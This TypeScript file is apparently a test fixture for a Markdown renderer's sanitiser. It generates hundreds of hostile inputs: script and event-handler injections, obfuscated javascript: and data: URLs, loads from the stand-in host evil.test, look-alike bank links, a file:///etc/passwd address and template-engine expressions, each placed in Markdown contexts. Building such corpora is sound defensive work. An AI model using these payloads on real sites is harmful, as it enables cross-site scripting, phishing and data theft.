// Hostile texts: each dangerous thing in each place of a document where a text can stand. What they try calls `canary()`
// or asks evil.test for something; see traps.ts.

export interface Payload {
  name: string
  text: string
}

const call = 'canary()'
const evil = 'https://evil.test'

/** Elements and attributes. */
const markup: Readonly<Record<string, string>> = {
  script: `<script>${call}</script>`,
  'script with an address': `<script src="${evil}/s.js"></script>`,
  'script in capitals, over lines': `<SCRIPT\n>\n${call}\n</SCRIPT\n>`,
  'script which is never closed': `<script>${call}`,
  'script in pieces': `<scr<script>ipt>${call}</scr</script>ipt>`,
  'image which fails': `<img src=x onerror=${call}>`,
  'image with a slash for a space': `<img/src="x"/onerror="${call}">`,
  'image from elsewhere': `<img src="${evil}/i.png" srcset="${evil}/2.png 2x">`,
  'image, not closed': `<img src="${evil}/open.png" onerror="${call}"`,
  svg: `<svg onload=${call}><script>${call}</script></svg>`,
  'svg which animates an address': `<svg><a><animate attributeName=href values="javascript:${call}"/><text>x</text></a></svg>`,
  'svg with foreign content': `<svg><foreignObject><iframe src="${evil}"></iframe></foreignObject></svg>`,
  'svg use': `<svg><use href="${evil}/u.svg#x"></use><image href="${evil}/i.png"/></svg>`,
  math: `<math><maction actiontype="statusline" xlink:href="javascript:${call}">x</maction></math>`,
  'math and style': `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
  iframe: `<iframe src="${evil}"></iframe>`,
  'iframe with a document': `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  'iframe with a script address': `<iframe src="javascript:parent.${call}"></iframe>`,
  object: `<object data="${evil}/o.swf"></object>`,
  embed: `<embed src="${evil}/e.swf">`,
  form: `<form action="${evil}/f"><input name=password autofocus onfocus=${call}><button formaction="javascript:${call}">ok</button></form>`,
  'form controls': `<input type=image src="${evil}/i.png"><textarea autofocus onfocus=${call}></textarea><select onchange=${call}></select>`,
  style: `<style>@import url(${evil}/s.css); * { background: url(${evil}/b.png) }</style>`,
  'style attribute': `<div style="position:fixed;inset:0;background:url(${evil}/b.png)">x</div>`,
  stylesheet: `<link rel="stylesheet" href="${evil}/s.css">`,
  hints: `<link rel="prefetch" href="${evil}/p"><link rel="preconnect" href="${evil}"><link rel="dns-prefetch" href="//evil.test">`,
  refresh: `<meta http-equiv="refresh" content="0;url=${evil}/r">`,
  base: `<base href="${evil}/">`,
  details: `<details open ontoggle=${call}><summary>x</summary></details>`,
  media: `<video src="${evil}/v.mp4" poster="${evil}/p.png" autoplay onerror=${call}></video><audio src="${evil}/a.mp3" autoplay></audio>`,
  'media with sources': `<video><source src="${evil}/v.mp4" onerror=${call}><track default src="${evil}/t.vtt"></video>`,
  body: `<body onload=${call} background="${evil}/b.png">`,
  frames: `<frameset><frame src="${evil}"></frameset>`,
  template: `<template><script>${call}</script></template><slot onslotchange=${call}></slot>`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  'raw text': `<xmp><p title="</xmp><script>${call}</script>">`,
  'text area which ends early': `<textarea></textarea><script>${call}</script></textarea>`,
  'a comment which ends early': `<!--><script>${call}</script>-->`,
  'a comment with a dash': `<!-- --!><img src=x onerror=${call}> -->`,
  cdata: `<![CDATA[<img src=x onerror=${call}>]]>`,
  'processing instruction': `<?xml-stylesheet href="javascript:${call}"?><img src=x onerror=${call}>`,
  doctype: `<!DOCTYPE x [<!ENTITY e SYSTEM "${evil}/e">]>&e;`,
  'elements of ours': `<button class="tg-load-image" data-ui-owned onclick=${call}>Load image</button>`,
  'custom element': `<together-chat base-url="${evil}/api"></together-chat>`,
  'names of globals': `<a id="canary" name="app" class="fixed inset-0">x</a><form id=location><input id=href></form>`,
  'a portal': `<portal src="${evil}"></portal><marquee onstart=${call}>x</marquee><dialog open>x</dialog>`,
  'popover and commands': `<div popover id=p onbeforetoggle=${call}>x</div><button popovertarget=p command=show-popover>x</button>`,
  'written as entities': `&lt;img src=x onerror=${call}&gt; &#60;script&#62;${call}&#60;/script&#62;`,
  'entities without ends': `&#60script&#62${call}&#x3c/script&#x3e`,
  'full-width signs': `＜script＞${call}＜/script＞ ‹img src=x onerror=${call}›`,
  'a null in the name': `<scr\0ipt>${call}</scr\0ipt><img src=x o\0nerror=${call}>`,
  'quotes which end attributes': `"><img src=x onerror=${call}> '><img src=x onerror=${call}> \`><img src=x onerror=${call}>`,
  'handlers without a tag': `" onmouseover="${call}" x="' onfocus='${call}' autofocus tabindex=1 x='`,
  'an expression for a template engine': `{{constructor.constructor('${call}')()}} \${${call}} <%= ${call} %>`,
}

const markupPlaces: Readonly<Record<string, (inside: string) => string>> = {
  'by itself': (inside) => inside,
  'in a sentence': (inside) => `Words ${inside} and words.`,
  'after a blank line': (inside) => `Words\n\n${inside}\n\nwords`,
  'in a heading': (inside) => `# ${oneLine(inside)}\n\n${oneLine(inside)}\n===`,
  'in an item': (inside) => `- a\n  - ${oneLine(inside)}\n\n1. ${inside.replaceAll('\n', '\n   ')}`,
  'in a quote': (inside) => `> ${inside.replaceAll('\n', '\n> ')}\n>> ${oneLine(inside)}`,
  'in a cell': (inside) => `| ${oneLine(inside)} | b |\n|---|---|\n| c | ${oneLine(inside)} |`,
  'in emphasis': (inside) => `**${inside}** *${inside}* ~~${inside}~~`,
  'in a link': (inside) => `[${inside}](https://ok.test/${oneLine(inside).replace(/[\s()]/g, '')} "${inside}")`,
  'in an image': (inside) => `![${inside}](https://img.test/i.png "${inside}")`,
  'in a definition': (inside) =>
    `[a] ![b]\n\n[a]: <https://ok.test/${oneLine(inside).replace(/[<>]/g, '')}> "${inside}"\n[b]: https://img.test '${inside}'`,
  'in code': (inside) => `\`${inside}\` \`\` ${inside}\``,
  'in a fence and after it': (inside) => `\`\`\`html ${oneLine(inside)}\n${inside}\n\`\`\`\n${inside}`,
  'in a task': (inside) => `- [x] ${oneLine(inside)}\n- [ ] ${inside}`,
}

/** Addresses which no link may lead to, and none may be loaded from without a click. */
const addresses: Readonly<Record<string, string>> = {
  javascript: `javascript:${call}`,
  'in other cases': `jAvAsCrIpT:${call}`,
  'after a space': ` javascript:${call}`,
  'after a control': `\u0001javascript:${call}`,
  'with a tab': `java\tscript:${call}`,
  'with a line end': `java\nscript:${call}`,
  'with a null': `java\0script:${call}`,
  'with invisible characters': `java\u200Bscript\u00AD:${call}`,
  'with tag characters': `java\u{E0020}script:${call}`,
  'with bidi': `\u202Ejavascript:${call}`,
  'as entities': `&#106;&#x61;vascript&colon;${call}`,
  'as entities with zeros': `&#0000106avascript&#x0000003A;${call}`,
  'as entities, tab and line end': `java&Tab;script&NewLine;:${call}`,
  'as percent signs': `%6Aavascript:${call}`,
  'with a full-width colon': `javascript：${call}`,
  'with escapes': `java\\script\\:${call}`,
  'behind another protocol': `https:javascript:${call}`,
  'with a comment': `javascript://ok.test/%0A${call}`,
  'behind view-source': `view-source:javascript:${call}`,
  'behind feed': `feed:javascript:${call}`,
  vbscript: 'vbscript:canary',
  'data, html': `data:text/html,<script>parent.${call}</script>`,
  'data, base64': 'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==',
  'data, svg': `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  'data, png': 'data:image/png;base64,iVBORw0KGgo=',
  blob: 'blob:https://ok.test/1',
  file: 'file:///etc/passwd',
  intent: 'intent://x#Intent;scheme=http;end',
  ftp: 'ftp://evil.test/x',
  ws: 'wss://evil.test/x',
  about: 'about:blank',
  chrome: 'chrome://settings',
  relative: 'logout?now=1',
  absolute: '/logout',
  fragment: '#app',
  'protocol of the page': '//evil.test/x',
  backslashes: '\\\\evil.test\\x',
  'with a user': 'https://bank.example@evil.test/',
  'with a user and password': 'https://bank.example:443@evil.test/',
  'with an empty user': 'https://:x@evil.test/',
  'with quotes': `https://evil.test/"onmouseover="${call}`,
  'with apostrophes': `https://evil.test/'onmouseover='${call}`,
  'with angles': `https://evil.test/><img/src=x/onerror=${call}>`,
  'from elsewhere': 'https://evil.test/pixel.png?secret',
  'another alphabet': 'https://аpple.example/',
  'full-width letters': 'https://ｅｖｉｌ.test/',
  'no name': 'https://',
  'a port too high': 'https://evil.test:99999/',
}

const addressPlaces: Readonly<Record<string, (address: string) => string>> = {
  'of a link': (address) => `[words](${address})`,
  'of a link, in angles': (address) => `[words](<${address}> "title")`,
  'of a link which reads as another': (address) => `[https://bank.example/login](<${address}>)`,
  'of a link in emphasis': (address) => `**[words](${address})** ~~[*words*](<${address}> 'title')~~`,
  'of a definition': (address) => `[words][a] [a][] [a]\n\n[a]: ${address}`,
  'of a definition, in angles': (address) => `[a]: <${address}> "title"\n\n[words][A] ![words][a]`,
  'in angles alone': (address) => `Words <${address}> words`,
  bare: (address) => `Words ${address} words`,
  'of an image': (address) => `![words](${address})`,
  'of an image, in angles': (address) => `![words](<${address}> "title")`,
  'of an image in a link': (address) => `[![words](<${address}>)](<${address}>)`,
  'in a table': (address) => `| [a](<${address}>) |\n|---|\n| ![a](<${address}>) ${address} |`,
  'in an item in a quote': (address) => `> - [words](<${address}>)\n>   ![words](${address})`,
  'in a heading': (address) => `# [words](<${address}>)`,
  'of a link around another': (address) => `[words <https://ok.test/> **<a@ok.test>** https://ok.test](<${address}>)`,
  'of a link inside of another': (address) => `[words <${address}> [words](<${address}>)](https://ok.test)`,
  'of a link which is never closed': (address) => `[words](${address}`,
}

/** Characters which hide or turn what stands beside them. */
const characters: Readonly<Record<string, string>> = {
  override: '\u202E',
  embedding: '\u202A\u202B\u202C',
  isolates: '\u2066\u2067\u2068\u2069',
  tags: '\u{E0001}\u{E0041}\u{E007F}',
  'tags after a flag': '\u{1F3F4}\u{E0067}\u{E0062}',
  'variation selectors': '\u{E0100}\u{E0101}\u{E01EF}',
  null: '\u0000',
  bell: '\u0007\u0008',
  escape: '\u001B[31m',
  'vertical tab': '\u000B\u000C',
  delete: '\u007F',
  'C1 controls': '\u0080\u0085\u009F',
}

const spellings: Readonly<Record<string, (text: string) => string>> = {
  'as they are': (text) => text,
  'as hexadecimal entities': (text) => entities(text, (code) => `x${code.toString(16)}`),
  'as decimal entities': (text) => entities(text, (code) => `000${code}`),
}

const characterPlaces: Readonly<Record<string, (inside: string) => string>> = {
  'in a sentence': (inside) => `a${inside}b **c${inside}d** \\${inside}`,
  'in code': (inside) => `\`a${inside}b\`\n\n    c${inside}d`,
  'in a fence': (inside) => `\`\`\`j${inside}s\na${inside}b\n\`\`\``,
  'in a link': (inside) => `[a${inside}b](https://ok.test/c${inside}d "e${inside}f")`,
  'in a bare address': (inside) => `https://ok.test/a${inside}b <https://ok${inside}.test/>`,
  'in an image': (inside) => `![a${inside}b](https://img.test/c${inside}.png "e${inside}f")`,
  'in a definition': (inside) => `[a${inside}]\n\n[a${inside}]: https://ok.test/${inside} "b${inside}c"`,
  'in a table': (inside) => `| a${inside}b |\n|---|\n| c${inside}d |`,
  'in a heading': (inside) => `# a${inside}b\n\nc${inside}d\n---`,
  'in a task': (inside) => `- [x] a${inside}b\n- ${inside}c`,
  'in raw HTML': (inside) => `<p title="a${inside}b">c${inside}d</p>`,
  'between other characters': (inside) => `🎉${inside}👩‍👩‍👧${inside}مرحبا${inside}葛${inside}`,
}

const others: readonly string[] = [
  // What a fence may name.
  ...[
    'js fixed inset-0 z-50',
    `js" onload="${call}`,
    "js' id='app",
    '{.fixed #app onclick=x}',
    `js><img/src=x/onerror=${call}>`,
  ]
    .concat(['__proto__', 'constructor', 'mermaid', 'math', 'svg', '../../x', 'js\u202Ets', 'a'.repeat(99)])
    .flatMap((info) => ['```', '~~~'].map((mark) => `${mark}${info}\n<b>1</b>\n${mark}`)),
  // Names which objects have already.
  ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype', 'location', 'canary'].flatMap((name) => [
    `[${name}] [x][${name}] ![${name}]`,
    `[${name}]\n\n[${name}]: javascript:${call}`,
    `# ${name}\n\n## ${name} {#${name}}`,
    `Words[^${name}]\n\n[^${name}]: Note ![x](https://img.test/i.png)`,
    `&${name}; &${name}`,
  ]),
  // Texts which read as another address.
  '[bank.example](https://evil.test)',
  '[**https://bank**.example/login](https://evil.test)',
  '[bank\u200B.example](https://evil.test "https://bank.example")',
  '[`bank.example`](https://evil.test) <https://bank.example>',
  '[bank&#46;example](https://evil.test)',
  '[words <https://bank.example> words](https://evil.test)',
  '[words <someone@bank.example> words](https://evil.test) [*<https://bank.example>*][a]\n\n[a]: https://evil.test',
  '[![bank.example](https://img.test/i.png)](https://evil.test)',
  // Numbers and shapes.
  '999999999. a\n1000000000. b\n-1. c\n0. d',
  '1.` onclick="x"\n2) <li value=-1>',
  '|a|b|\n|:-:|-:| style="x"\n|1|2|',
  `<https://ok.test/"onclick="${call}> <a@b.test"onclick="${call}>`,
  `[x](https://ok.test){onclick="${call}" .fixed} ![x](https://img.test){width=9999px}`,
  '\ud800 \udc00 a\ud800b',
]

export const payloads: readonly Payload[] = [
  ...crossed('markup', markup, markupPlaces),
  ...crossed('an address', addresses, addressPlaces),
  ...Object.entries(spellings).flatMap(([spelling, spell]) => {
    const spelled = Object.entries(characters).map(([name, text]) => [name, spell(text)] as const)
    return crossed(`characters ${spelling}`, Object.fromEntries(spelled), characterPlaces)
  }),
  ...others.map((text) => ({ name: 'another', text })),
]

function crossed(
  kind: string,
  things: Readonly<Record<string, string>>,
  places: Readonly<Record<string, (inside: string) => string>>,
): Payload[] {
  return Object.entries(things).flatMap(([thing, inside]) =>
    Object.entries(places).map(([place, put]) => ({ name: `${kind}: ${thing}, ${place}`, text: put(inside) })),
  )
}

function oneLine(text: string): string {
  return text.replaceAll('\n', ' ')
}

function entities(text: string, number: (code: number) => string): string {
  return [...text].map((character) => `&#${number(character.codePointAt(0) ?? 0)};`).join('')
}
